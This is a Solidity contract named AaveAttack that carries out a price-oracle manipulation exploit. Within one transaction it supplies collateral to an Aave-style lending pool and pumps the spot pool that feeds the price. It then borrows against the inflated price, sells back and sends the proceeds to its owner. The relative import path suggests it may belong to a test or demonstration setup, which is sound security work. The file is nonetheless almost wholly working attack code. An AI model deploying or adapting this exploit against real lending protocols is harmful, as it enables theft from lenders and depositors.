// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SpotPool} from "../../morpho/contracts/SpotPool.sol";

/// @notice Aave's pool as the attack calls it, in our own words.
interface ILendingPool {
    function supply(address asset, uint256 amount, address onBehalfOf, uint16 referralCode) external;
    function borrow(address asset, uint256 amount, uint256 rateMode, uint16 referralCode, address onBehalfOf) external;
}

/// @notice Pumps the pool that a price comes from, borrows at Aave against a little collateral and sells back, all in one
/// transaction: no block ever shows the false price. Pays for itself with what its owner hands it.
contract AaveAttack {
    uint256 private constant VARIABLE = 2;

    address public immutable owner;
    ILendingPool public immutable lender;
    SpotPool public immutable pool;

    error Attack_NotOwner(address caller);

    constructor(ILendingPool lender_, SpotPool pool_) {
        (owner, lender, pool) = (msg.sender, lender_, pool_);
        pool_.base().approve(address(pool_), type(uint256).max);
        pool_.quote().approve(address(pool_), type(uint256).max);
        pool_.base().approve(address(lender_), type(uint256).max);
    }

    function attack(uint256 collateral, uint256 pump, uint256 amount) external {
        if (msg.sender != owner) revert Attack_NotOwner(msg.sender);
        IERC20 money = pool.quote();
        lender.supply(address(pool.base()), collateral, address(this), 0);
        uint256 bought = pool.swap(money, pump);
        lender.borrow(address(money), amount, VARIABLE, 0, address(this));
        pool.swap(pool.base(), bought);
        money.transfer(owner, money.balanceOf(address(this)));
    }
}
